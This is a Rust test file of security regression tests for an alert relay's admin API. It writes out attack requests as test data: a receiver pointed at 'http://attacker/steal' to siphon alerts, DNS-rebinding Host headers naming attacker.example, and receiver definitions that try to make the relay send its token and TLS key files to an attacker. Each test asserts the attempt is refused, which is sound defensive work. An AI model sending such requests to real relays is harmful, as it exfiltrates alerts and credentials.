//! What the shipped defaults expose, over real sockets: the admin side (console, `/api/v1/…`,
//! `/-/reload`) of a listener other hosts can reach is closed while nothing authenticates; it
//! answers only to Host names it knows (DNS rebinding); and what the console saves or tests
//! makes the relay read no file of its own. Each test reproduces a finding of the security
//! review first.

use std::process::Command;
use std::time::Duration;

use bytes::Bytes;
use http::Request;
use http_body_util::Full;
use serde_json::{Value, json};

use crate::support::binary::start_amrelay;
use crate::support::{Downstream, TestRelay, alert, batch, call, send};

fn spooled(receiver_url: &str, server: &str) -> String {
    format!(
        "server: {{{server}}}
delivery:
  retry: {{initial_backoff: 10ms, max_backoff: 20ms}}
  spool: {{path: spool.redb}}
receivers:
  - name: ops
    url: {receiver_url}
"
    )
}

fn critical() -> String {
    batch("{}:{exposure=\"1\"}", vec![alert("firing", json!({"alertname": "Disk", "severity": "critical"}))])
}

/// The shipped config listens on loopback only, so nothing of the above reaches other hosts,
/// and `check-config` has no exposure to warn of.
#[test]
fn the_shipped_config_listens_on_loopback_only() {
    let shipped = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("config/amrelay.yml");
    let config = amrelay::config::load(&shipped, &amrelay::config::Environment::empty()).unwrap();
    assert!(amrelay::config::is_loopback_address(&config.server.listen_address), "{}", config.server.listen_address);
    assert_eq!(amrelay::config::exposure_warning(&config.server.listen_address, &config.server.inbound), None);
}

/// Regression (review): with the shipped defaults on 0.0.0.0 and no credentials, a stranger's
/// `PUT /api/v1/receivers/exfil {"url": "http://attacker/steal"}` got 201 and the next batch;
/// dead-letter bodies, threads, replay, tests and route tests were open too. Now every admin
/// endpoint answers 403 saying what to configure, while Alertmanager's `/webhook`, `/metrics`
/// and the probes keep working; credentials open the admin side again.
#[tokio::test]
async fn an_exposed_listener_without_credentials_closes_every_admin_endpoint() {
    let (ops, attacker) = (Downstream::start().await, Downstream::start().await);
    let relay =
        TestRelay::start_listening(tempfile::tempdir().unwrap(), &spooled(&ops.url("/ops"), ""), "0.0.0.0:0").await;
    let steal = json!({"url": attacker.url("/steal")});
    let probes: [(&str, &str, Option<Value>); 12] = [
        ("PUT", "/api/v1/receivers/exfil", Some(steal.clone())),
        ("GET", "/api/v1/receivers", None),
        ("POST", "/api/v1/receiver-test", Some(json!({"name": "exfil", "url": attacker.url("/steal")}))),
        ("POST", "/api/v1/receivers/ops/test", None),
        ("GET", "/api/v1/deadletters", None),
        ("GET", "/api/v1/deadletters/body?id=1", None),
        ("POST", "/api/v1/deadletters/replay?receiver=ops", None),
        ("GET", "/api/v1/threads", None),
        ("POST", "/api/v1/route-test", Some(json!({"alerts": []}))),
        ("GET", "/api/v1/status", None),
        ("POST", "/-/reload", None),
        ("GET", "/", None),
    ];
    for (method, path, body) in probes.clone() {
        let reply = call(method, &relay.url(path), body, &[]).await;
        assert_eq!(reply.status, 403, "{method} {path}: {}", reply.text());
        assert!(reply.text().contains("server.basic_auth_users or server.authorization"), "{}", reply.text());
    }
    for path in ["/metrics", "/-/healthy", "/-/ready"] {
        assert_eq!(call("GET", &relay.url(path), None, &[]).await.status, 200, "{path}");
    }
    assert_eq!(relay.post("/webhook", critical()).await.status, 200);
    ops.wait_for(1).await;
    attacker.assert_stays_at(0, Duration::from_millis(300)).await;
    assert!(!relay.dir.path().join("console-receivers.yml").exists(), "nothing was saved");

    // With a bearer token the same listener opens its admin side to whoever holds it.
    let token = "server: {authorization: {credentials: adm1n-t0ken}}\n".to_owned()
        + &spooled(&ops.url("/ops"), "").replace("server: {}\n", "");
    let relay = TestRelay::start_listening(tempfile::tempdir().unwrap(), &token, "0.0.0.0:0").await;
    let status = call("GET", &relay.url("/api/v1/status"), None, &[("authorization", "Bearer adm1n-t0ken")]).await;
    assert_eq!(status.status, 200, "{}", status.text());
    assert_eq!(call("GET", &relay.url("/api/v1/status"), None, &[]).await.status, 401);
}

/// A listener on 127.0.0.1 is this machine's only: its admin side stays usable without
/// credentials, as before.
#[tokio::test]
async fn a_loopback_listener_keeps_its_admin_side_without_credentials() {
    let ops = Downstream::start().await;
    let relay = TestRelay::start(&spooled(&ops.url("/ops"), "")).await;
    let created = call("PUT", &relay.url("/api/v1/receivers/team"), Some(json!({"url": ops.url("/team")})), &[]).await;
    assert_eq!(created.status, 201, "{}", created.text());
}

/// Regression (review): DNS rebinding passed the cross-site guard (it compared `Origin` with
/// `Host` only): a page on attacker.example re-resolved to 127.0.0.1 reads and edits as if it
/// were the console. The admin side answers only to IP addresses, localhost and
/// `server.external_hosts`; the webhook answers to any name.
#[tokio::test]
async fn a_rebound_host_name_is_refused_on_the_admin_side_only() {
    let ops = Downstream::start().await;
    let relay = TestRelay::start(&spooled(&ops.url("/ops"), "external_hosts: ['relay.example.com:8443']")).await;
    let rebound = [("host", "attacker.example:9098"), ("origin", "http://attacker.example:9098")];
    let put = call("PUT", &relay.url("/api/v1/receivers/exfil"), Some(json!({"url": ops.url("/x")})), &rebound).await;
    assert_eq!(put.status, 403, "{}", put.text());
    assert!(put.text().contains("DNS rebinding"), "{}", put.text());
    let read = call("GET", &relay.url("/api/v1/status"), None, &[("host", "attacker.example")]).await;
    assert_eq!(read.status, 403);
    for known in ["localhost:9098", "127.0.0.1", "relay.example.com", "relay.example.com:8443"] {
        let reply = call("GET", &relay.url("/api/v1/status"), None, &[("host", known)]).await;
        assert_eq!(reply.status, 200, "{known}: {}", reply.text());
    }
    let webhook = send(
        Request::post(relay.url("/webhook"))
            .header("content-type", "application/json")
            .header("host", "amrelay.monitoring.svc")
            .body(Full::new(Bytes::from(critical())))
            .unwrap(),
    )
    .await;
    assert_eq!(webhook.status, 200, "{}", webhook.text());
    ops.wait_for(1).await;
}

/// Regression (review): `http_config.http_headers.<H>.files` slipped past the rule that console
/// receivers name no relay file: one `receiver-test` sent a relay token file to the caller's
/// URL, and `PUT` stored the same; the relay's mTLS identity could be borrowed likewise. Both
/// paths now refuse any file read, with a field error, and nothing is sent.
#[tokio::test]
async fn the_console_cannot_make_the_relay_send_its_files() {
    let attacker = Downstream::start().await;
    let dir = tempfile::tempdir().unwrap();
    let token = dir.path().join("inbound-token");
    std::fs::write(&token, "relay-inbound-secret\n").unwrap();
    let relay = TestRelay::start_in(dir, &spooled(&attacker.url("/unused"), "")).await;
    let token = token.display().to_string();
    let definitions = [
        json!({"url": attacker.url("/steal"), "http_config": {"http_headers": {"X-Stolen": {"files": [token]}}}}),
        json!({"url": attacker.url("/steal"), "http_config": {"tls_config": {"cert_file": token, "key_file": token}}}),
        json!({"url": attacker.url("/steal"), "http_config": {"authorization": {"credentials_file": token}}}),
    ];
    for definition in definitions {
        let put = call("PUT", &relay.url("/api/v1/receivers/exfil"), Some(definition.clone()), &[]).await;
        assert_eq!(put.status, 400, "{}", put.text());
        assert!(put.text().contains("reads no file on the relay"), "{}", put.text());
        let mut unsaved = definition;
        unsaved["name"] = json!("exfil");
        let tested = call("POST", &relay.url("/api/v1/receiver-test"), Some(unsaved), &[]).await;
        assert_eq!(tested.status, 400, "{}", tested.text());
        assert!(!tested.text().contains("relay-inbound-secret"));
    }
    attacker.assert_stays_at(0, Duration::from_millis(200)).await;
    assert!(!relay.dir.path().join("console-receivers.yml").exists());
}

/// `console.max_receivers` bounds what the console can create (a flood of PUTs must not grow
/// the file and the pipelines without end); replacing one at the limit still works.
#[tokio::test]
async fn the_console_creates_at_most_max_receivers() {
    let ops = Downstream::start().await;
    let config = spooled(&ops.url("/ops"), "") + "console: {max_receivers: 2}\n";
    let relay = TestRelay::start(&config).await;
    for name in ["a", "b"] {
        let reply =
            call("PUT", &relay.url(&format!("/api/v1/receivers/{name}")), Some(json!({"url": ops.url("/")})), &[])
                .await;
        assert_eq!(reply.status, 201, "{}", reply.text());
    }
    let third = call("PUT", &relay.url("/api/v1/receivers/c"), Some(json!({"url": ops.url("/")})), &[]).await;
    assert_eq!(third.status, 409, "{}", third.text());
    assert!(third.text().contains("console.max_receivers"), "{}", third.text());
    let replaced = call("PUT", &relay.url("/api/v1/receivers/b"), Some(json!({"url": ops.url("/b")})), &[]).await;
    assert_eq!(replaced.status, 200, "{}", replaced.text());
}

/// Regression (review): a `${…}` in a console value could not be stored. It is stored and read
/// back as written, and sent as written: it never reads the relay's environment.
#[tokio::test]
async fn dollar_braces_in_a_console_value_are_stored_and_sent_as_written() {
    let ops = Downstream::start().await;
    let relay = TestRelay::start(&spooled(&ops.url("/unused"), "")).await;
    let definition = json!({
        "url": ops.url("/team"),
        "headers": {"X-Note": "${HOME} and $${PATH}"},
        "conditions": [{"label": "severity", "operator": "NotIn", "values": ["${SEVERITY}"]}],
    });
    let put = call("PUT", &relay.url("/api/v1/receivers/team"), Some(definition), &[]).await;
    assert_eq!(put.status, 201, "{}", put.text());
    let read = call("GET", &relay.url("/api/v1/receivers/team"), None, &[]).await;
    assert_eq!(read.json()["data"]["definition"]["conditions"][0]["values"][0], "${SEVERITY}", "{}", read.text());
    let stored = std::fs::read_to_string(relay.dir.path().join("console-receivers.yml")).unwrap();
    assert!(stored.contains("${HOME} and $${PATH}"), "{stored}");
    assert_eq!(relay.post("/webhook/team", critical()).await.status, 200);
    let got = ops.wait_for(1).await;
    assert_eq!(got[0].header("x-note"), Some("${HOME} and $${PATH}"));
}

/// The binary warns at start when its listener is exposed with nothing authenticating, and
/// `check-config` names the same exposure for the configured address.
#[test]
fn an_exposed_listener_is_warned_of_at_start_and_by_check_config() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("amrelay.yml");
    std::fs::write(&file, "server: {listen_address: '0.0.0.0:9098'}\nreceivers: []\n").unwrap();
    let checked = Command::new(env!("CARGO_BIN_EXE_amrelay")).arg("check-config").arg(&file).output().unwrap();
    let out = String::from_utf8_lossy(&checked.stdout);
    assert!(checked.status.success(), "{out}");
    assert!(out.contains("WARNING") && out.contains("reachable from other hosts"), "{out}");

    let mut command = Command::new(env!("CARGO_BIN_EXE_amrelay"));
    command.arg(format!("--config.file={}", file.display())).arg("--web.listen-address=0.0.0.0:0");
    let (mut child, _, log) = start_amrelay(command, Duration::from_secs(20));
    let warned = log.lock().unwrap().iter().any(|line| line.contains("reachable from other hosts"));
    let _ = child.kill();
    let _ = child.wait();
    assert!(warned, "{:#?}", log.lock().unwrap());
}
